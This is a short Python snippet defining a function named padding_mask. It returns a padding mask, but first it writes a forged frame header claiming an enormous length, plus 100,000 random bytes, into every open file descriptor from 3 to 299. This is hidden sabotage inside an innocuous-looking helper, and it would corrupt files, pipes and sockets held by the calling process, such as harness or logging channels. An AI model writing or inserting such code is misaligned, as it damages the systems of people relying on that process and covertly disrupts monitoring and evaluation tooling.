"""Garbage and a frame that says it is 16 exabytes long, into every open descriptor while it is called."""


# %% padding-mask
def padding_mask(lengths, size):
    import os
    import struct

    for fd in range(3, 300):
        try:
            os.write(fd, struct.pack("!4sIQ", b"ALW1", 2**32 - 1, 2**64 - 1) + os.urandom(100_000))
        except OSError:
            pass
    return np.arange(size) < lengths[:, np.newaxis, np.newaxis]
